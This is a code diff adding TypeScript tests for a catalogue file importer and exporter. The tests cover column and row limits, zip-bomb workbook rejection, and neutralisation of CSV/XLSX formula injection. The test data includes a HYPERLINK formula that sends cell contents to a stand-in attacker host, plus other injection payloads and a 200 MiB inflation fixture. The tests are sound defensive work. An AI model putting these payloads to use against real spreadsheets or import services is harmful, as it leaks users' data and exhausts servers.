@@ -1,9 +1,11 @@
 import ExcelJS from 'exceljs'
+import { parse } from 'csv-parse/sync'
 import { describe, expect, it } from 'vitest'
 import { AppError } from '../../../platform/errors.ts'
 import { fullContent } from './catalogue-fixtures.ts'
-import { cellText, detectKind, MAX_ROWS, readCatalogueFile, writeCatalogueCsv, writeCatalogueXlsx } from './catalogue-files.ts'
+import { cellText, detectKind, MAX_COLUMNS, MAX_ROWS, readCatalogueFile, writeCatalogueCsv, writeCatalogueXlsx } from './catalogue-files.ts'
 import { contentToRow, HEADERS, parseCatalogueRows } from './catalogue-rows.ts'
+import { streamedWorkbook, zipBombWorkbook } from './catalogue-test-files.ts'
 
 async function workbook(rows: unknown[][]): Promise<Buffer> {
   const book = new ExcelJS.Workbook()
@@ -84,5 +86,63 @@ describe('catalogue files', () => {
     expect(await fileError(readCatalogueFile(Buffer.from(lines.join('\n')), 'csv'))).toBe('import.invalid_file')
     const ok = await readCatalogueFile(Buffer.from(lines.slice(0, MAX_ROWS + 1).join('\n')), 'csv')
     expect(ok.rows).toHaveLength(MAX_ROWS)
+  })
+
+  it('drops empty cells past the column limit and refuses values there', async () => {
+    const wide = await readCatalogueFile(Buffer.from(`name,field_name${','.repeat(50_000)}\nA,B${','.repeat(50_000)}\n`), 'csv')
+    expect(wide.headers).toHaveLength(MAX_COLUMNS)
+    expect(wide.rows[0]).toMatchObject({ name: 'A', field_name: 'B' })
+    const error = await readCatalogueFile(Buffer.from(`name\nA${','.repeat(MAX_COLUMNS)}x\n`), 'csv').catch((e: unknown) => e)
+    expect((error as AppError).detail?.en).toContain(`column ${MAX_COLUMNS}`)
+  })
+
+  it('reads a streamed workbook (inline strings) and stops at the row limit', async () => {
+    const ok = await readCatalogueFile(await streamedWorkbook(3), 'xlsx')
+    expect(ok).toMatchObject({ kind: 'xlsx', headers: ['name', 'field_name'], rowNumbers: [2, 3, 4], headerRow: 1 })
+    expect(ok.rows[2]).toEqual({ name: 'T2', field_name: 'x' })
+    const error = await readCatalogueFile(await streamedWorkbook(MAX_ROWS + 5), 'xlsx').catch((e: unknown) => e)
+    expect(error).toBeInstanceOf(AppError)
+    expect((error as AppError).detail?.en).toContain(`${MAX_ROWS}`)
+  })
+
+  it('refuses a workbook whose sheet inflates past the limit, whatever its headers declare', async () => {
+    const bomb = await zipBombWorkbook(200) // 200 MiB of spaces after the sheet's XML
+    const error = await readCatalogueFile(bomb, 'xlsx').catch((e: unknown) => e)
+    expect(error).toBeInstanceOf(AppError)
+    expect((error as AppError).code).toBe('import.invalid_file')
+    expect((error as AppError).detail?.en).toContain('unpacks to more than')
+  })
+})
+
+describe('formula injection', () => {
+  // Values a spreadsheet would run as a formula, or that hide one (OWASP "CSV Injection").
+  const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=already quoted", "''+twice", "'plain quote", 'Thủ tục = bình thường']
+  const rows = hostile.map((value, i) => ({ ...contentToRow(fullContent({ nationalCode: `9.${i}` }), '2025-07-01'), name: value, time_limit_note: value }))
+
+  it('prefixes CSV cells that start with = + - @ tab or CR with a quote, and reads its own export back', async () => {
+    const file = writeCatalogueCsv(rows)
+    const cells = (parse(file, { bom: true, relax_column_count: true }) as string[][]).slice(1)
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    expect(cells.map((r) => r[HEADERS.indexOf('name')])).toEqual(hostile.map((v, i) => (i < 8 ? `'${v}` : v)))
+    // Each neutralised cell is also wrapped in double quotes.
+    expect(file.toString('utf8')).toContain(`"'+1+1"`)
+    const table = await readCatalogueFile(file, 'csv')
+    expect(table.rows).toEqual(rows)
+  })
+
+  it('keeps XLSX cells that start with = as plain text cells, never formulas', async () => {
+    const file = await writeCatalogueXlsx(rows)
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(file as unknown as ExcelJS.Buffer)
+    const sheet = book.worksheets[0]!
+    const column = HEADERS.indexOf('name') + 1
+    const cell = sheet.getRow(3).getCell(column)
+    expect(cell.type).toBe(ExcelJS.ValueType.String)
+    expect(cell.formula).toBeUndefined()
+    expect(cell.value).toBe(hostile[0])
+    expect(cell.numFmt).toBe('@')
+    // XML turns a CR into a line feed; the importer normalises line ends anyway.
+    const lf = (text: string) => text.replace(/\r\n?/g, '\n')
+    expect((await readCatalogueFile(file, 'xlsx')).rows.map((r) => r.name)).toEqual(hostile.map(lf))
   })
 })
